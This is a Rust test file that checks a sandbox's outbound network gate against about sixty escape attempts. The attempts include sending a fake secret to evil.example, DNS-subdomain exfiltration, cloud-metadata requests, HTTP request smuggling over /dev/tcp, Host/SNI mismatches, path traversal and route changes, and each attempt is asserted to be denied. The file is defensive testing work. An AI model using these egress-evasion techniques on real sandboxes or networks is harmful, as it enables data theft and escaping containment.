//! Ways out of a bottle by name, address, port and protocol.

use super::{Bottle, Row, play};
use crate::support::{Reply, World, have_tools};

const ROUTES: &str = r#"routes = { "good.example", "other.example", "gone.example", "rebind.example", "metadata.example", "local.example",
  { host = "paths.example", matches = { { methods = { "GET" }, paths = { { type = "prefix", value = "/ok" } } } } },
  { host = "ports.example", ports = { 8443 } } }"#;

const GOOD: &str = "req https://good.example/hello | fine 'welcome /hello'";

const ROWS: &[Row] = &[
    Row::new(
        "a host off the list",
        "req https://evil.example/s3cr3t",
        &["403", "x-bb-deny: route_missing", "evil.example"],
    )
    .denied("route_missing", "evil.example")
    .twin(GOOD),
    Row::new("a host off the list, plain HTTP", "req http://plain.evil.example/s3cr3t", &["x-bb-deny: route_missing"])
        .denied("route_missing", "plain.evil.example")
        .twin("req http://good.example/hello | fine 'welcome /hello'"),
    Row::new("a name that only ends like one on the list", "req https://evilgood.example/", &["route_missing"])
        .denied("route_missing", "evilgood.example"),
    Row::new("a name below one on the list", "req https://sub.good.example/", &["route_missing"])
        .denied("route_missing", "sub.good.example"),
    Row::new("a name on the list, written otherwise", "req https://GOOD.example./hello", &["welcome /hello"]),
    Row::new("an IP address, TLS", "req -k https://93.184.216.200/s3cr3t", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "93.184.216.200"),
    Row::new("an IP address, plain", "req http://8.8.8.8/s3cr3t", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "8.8.8.8"),
    Row::new("an IP address in other words", "req http://0x08080808/s; req http://134744072/s", &[])
        .each(&[("x-bb-deny: ip_literal", 2)]),
    Row::new(
        "an IP address with the Host of a listed name",
        "req -H 'Host: good.example' http://8.8.4.4/s3cr3t",
        &["x-bb-deny: ip_literal"],
    ),
    Row::new(
        "an IP address with the SNI of a listed name",
        "req --resolve good.example:443:8.8.4.4 https://good.example/s3cr3t",
        &["x-bb-deny: ip_literal"],
    )
    .twin(GOOD),
    Row::new("a raw connection to an address", "try tcp 198.51.100.7 9000 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "198.51.100.7"),
    Row::new("a raw connection to ssh", "try tcp 140.82.112.3 22 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "140.82.112.3"),
    Row::new("IPv6, plain", "req -g 'http://[2001:db8::1]/s3cr3t'", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "2001:db8::1"),
    Row::new("IPv6, raw", "try tcp 2606:4700::1111 8080 s3cr3t", &["ECONNREFUSED"]).denied("port", "2606:4700::1111"),
    Row::new("IPv4 in IPv6", "req -g 'http://[::ffff:8.8.8.8]/s3cr3t'", &["x-bb-deny: ip_literal"]),
    Row::new("the cloud's metadata", "req http://169.254.169.254/latest/meta-data/", &["x-bb-deny: ip_literal"])
        .denied("ip_literal", "169.254.169.254"),
    Row::new("a private network", "req http://10.0.0.1/; req http://192.168.1.1/", &[])
        .each(&[("x-bb-deny: ip_literal", 2)]),
    Row::new("the gate itself", "try tcp 198.18.0.3 22; try tcp 198.18.0.3 8080", &[]).each(&[("ECONNREFUSED", 2)]),
    Row::new("DNS over UDP elsewhere, with a secret", "try dns 8.8.8.8 udp s3cr3t-1.evil.example 16", &["rcode 0"])
        .denied("protocol_unknown", "s3cr3t-1.evil.example.")
        .twin("try dns 8.8.8.8 udp good.example 1 | fine 'address 198.1[89]'"),
    Row::new("DNS over TCP elsewhere, with a secret", "try dns 8.8.8.8 tcp s3cr3t-2.evil.example 16", &["rcode 0"])
        .denied("protocol_unknown", "s3cr3t-2.evil.example.")
        .twin("try dns 8.8.8.8 tcp good.example 1 | fine 'address 198.1[89]'"),
    Row::new("DNS over IPv6", "try dns 2001:4860:4860::8888 udp s3cr3t-3.evil.example 1", &["address 198.1"]),
    Row::new("bytes that are no DNS on port 53", "try tcp 1.1.1.1 53 s3cr3ts3cr3ts3cr3t", &["connected"]),
    Row::new("DNS over TLS", "try tcp 1.1.1.1 853 s3cr3t", &["ECONNREFUSED"]).denied("port", "1.1.1.1"),
    Row::new(
        "DNS over HTTPS",
        "req -k 'https://1.1.1.1/dns-query?name=s3cr3t.evil.example'",
        &["x-bb-deny: ip_literal"],
    ),
    Row::new(
        "a name with a secret in it",
        "getent hosts s3cr3t-4.evil.example; req https://s3cr3t-4.evil.example/",
        &["198.1", "x-bb-deny: route_missing"],
    )
    .twin("getent hosts good.example | fine '198.1[89]'"),
    Row::new("another port of a listed host", "req https://good.example:8443/s3cr3t", &["x-bb-deny: port"])
        .denied("port", "good.example")
        .twin("req https://ports.example:8443/hello | fine 'welcome /hello'"),
    Row::new(
        "the usual port of a host listed with another one",
        "req https://ports.example/s3cr3t",
        &["x-bb-deny: port"],
    )
    .denied("port", "ports.example"),
    Row::new("ssh of a listed host", "try tcp good.example 22 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "good.example"),
    Row::new("UDP to a listed host (QUIC)", "try udp good.example 443 s3cr3t", &["ECONNREFUSED"])
        .denied("port", "good.example"),
    Row::new("UDP to an address", "try udp 9.9.9.9 123 s3cr3t", &["ECONNREFUSED"]).denied("port", "9.9.9.9"),
    Row::new(
        "Host and SNI that differ",
        "req --http1.1 -H 'Host: evil.example' https://good.example/s3cr3t",
        &["421", "x-bb-deny: name_mismatch"],
    )
    .twin("req --http1.1 -H 'Host: good.example' https://good.example/hello | fine 'welcome /hello'"),
    Row::new(
        "Host and SNI of two listed hosts",
        "req --http1.1 -H 'Host: other.example' https://good.example/s3cr3t",
        &["x-bb-deny: name_mismatch"],
    ),
    Row::new(
        ":authority and SNI that differ",
        "req --http2 -H 'Host: evil.example' https://good.example/s3cr3t",
        &["421", "x-bb-deny: name_mismatch"],
    )
    .twin("req --http2 https://good.example/hello | fine 'welcome /hello'"),
    Row::new(
        "the SNI off the list, Host on it",
        "req --http1.1 -H 'Host: good.example' https://evil.example/s3cr3t",
        &["x-bb-deny: name_mismatch"],
    ),
    Row::new(
        "an address in the request line that is not the Host",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET http://evil.example/s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3",
        &["x-bb-deny: name_mismatch"],
    ),
    Row::new(
        "two Hosts",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3",
        &["HTTP/1.1 4"],
    ),
    Row::new(
        "a second request on a good connection, to another host",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /first HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /s3cr3t HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3",
        &["welcome /first", "x-bb-deny: ip_literal"],
    ),
    Row::new(
        "a smuggled request: length and chunks",
        "exec 3<>/dev/tcp/good.example/80; printf 'POST /x HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 1 cat <&3; true",
        &["HTTP/1.1 400"],
    )
    .denied("protocol_unknown", ""),
    Row::new(
        "a smuggled request: two lengths",
        "exec 3<>/dev/tcp/good.example/80; printf 'POST /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 1\\r\\nContent-Length: 1\\r\\n\\r\\nx' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    ),
    Row::new(
        "a smuggled request: a bare line feed",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\nX: y\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    ),
    Row::new(
        "a smuggled request: a folded header",
        "exec 3<>/dev/tcp/good.example/80; printf 'GET /s3cr3t HTTP/1.1\\r\\nHost: good.example\\r\\nX: y\\r\\n Host: evil.example\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    ),
    Row::new(
        "HTTP/2 without TLS, known beforehand",
        "exec 3<>/dev/tcp/good.example/80; printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' | dd bs=4k iflag=fullblock status=none >&3; timeout 5 cat <&3; true",
        &["HTTP/1.1 400"],
    ),
    Row::new(
        "CONNECT through the plane",
        "req -p -x http://good.example:80 https://evil.example/s3cr3t",
        &["x-bb-deny: method"],
    ),
    Row::new("the plane as a proxy", "req -x http://good.example:80 http://evil.example/s3cr3t", &["x-bb-deny: "]),
    Row::new("TRACE", "req -X TRACE https://good.example/", &["x-bb-deny: method"]),
    Row::new("neither TLS nor HTTP on 443", "try tcp good.example 443 s3cr3t", &["connected", "ECONNRESET"])
        .denied("protocol_unknown", ""),
    Row::new(
        "a WebSocket",
        "req --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' https://good.example/",
        &["426", "x-bb-deny: upgrade"],
    ),
    Row::new("a path off the list", "req https://paths.example/s3cr3t", &["x-bb-deny: path"])
        .denied("path", "paths.example")
        .twin("req https://paths.example/ok/there | fine 'welcome /ok/there'"),
    Row::new("a path that climbs", "req --path-as-is https://paths.example/ok/../s3cr3t", &["x-bb-deny: path"]),
    Row::new(
        "a path that climbs in other letters",
        "req --path-as-is https://paths.example/ok/%2e%2e/s3cr3t",
        &["x-bb-deny: path"],
    ),
    Row::new("a path beside the prefix", "req https://paths.example/oks3cr3t", &["x-bb-deny: path"]),
    Row::new("a method off the list", "req -d s3cr3t https://paths.example/ok", &["x-bb-deny: method"])
        .denied("method", "paths.example"),
    Row::new(
        "a listed name of a private address",
        "req https://rebind.example/s3cr3t",
        &["x-bb-deny: private_address"],
    ),
    Row::new(
        "a listed name of the metadata service",
        "req http://metadata.example/s3cr3t",
        &["x-bb-deny: private_address"],
    ),
    Row::new("a listed name of the host itself", "req http://local.example/s3cr3t", &["x-bb-deny: private_address"]),
    Row::new("a listed name that there is not", "req https://gone.example/", &["x-bb-deny: resolve_failed"]),
    Row::new("a raw socket (ping)", "try family 2 3 1", &["EPERM"]),
    Row::new("a packet socket", "try family 17 3 0", &["EAFNOSUPPORT"]),
    Row::new(
        "a changed route",
        "ip route replace default via 198.18.0.2; ip link set eth0 down; ip addr add 1.2.3.4/8 dev lo",
        &[],
    )
    .each(&[("Operation not permitted", 3)])
    .twin(GOOD),
];

/// Names that the world's name server may be asked for: those of routes, and no other.
pub const KNOWN: [&str; 8] = [
    "good.example",
    "other.example",
    "gone.example",
    "rebind.example",
    "metadata.example",
    "local.example",
    "paths.example",
    "ports.example",
];

#[test]
fn there_is_no_way_out_but_the_listed_one() {
    if !have_tools(&["curl", "python3", "ip"]) {
        return;
    }
    for world in World::each() {
        no_way_out(&world, &Bottle { options: ROUTES, ..Bottle::default() }, ROWS);
    }
}

/// Plays the rows in a container, all but the last, which is about a link that it has not.
#[track_caller]
pub fn no_way_out_of_a_container(world: &World, bottle: &Bottle<'_>) {
    let options = bottle.with(ROUTES);
    no_way_out(world, &Bottle { options: &options, ..*bottle }, &ROWS[..ROWS.len() - 1]);
}

#[track_caller]
fn no_way_out(world: &World, bottle: &Bottle<'_>, rows: &[Row]) {
    let welcome = |seen: &crate::support::Seen| Reply::text(format!("welcome {}", seen.path));
    let sites = [
        world.site("good.example", welcome),
        world.site("other.example", welcome),
        world.site("paths.example", welcome),
        world.site_at("ports.example", "93.184.216.50".parse().unwrap(), &[8443, 443], welcome),
    ];
    for (name, address) in
        [("rebind.example", "10.0.0.1"), ("metadata.example", "169.254.169.254"), ("local.example", "127.0.0.1")]
    {
        world.name(name, &[address.parse().unwrap()]);
    }
    play(world, bottle, rows);
    world.assert_silent(&KNOWN);
    for site in sites {
        for seen in site.seen() {
            assert!(!format!("{seen:?}").contains("s3cr3t"), "{} got {seen:?}", site.name);
        }
    }
}
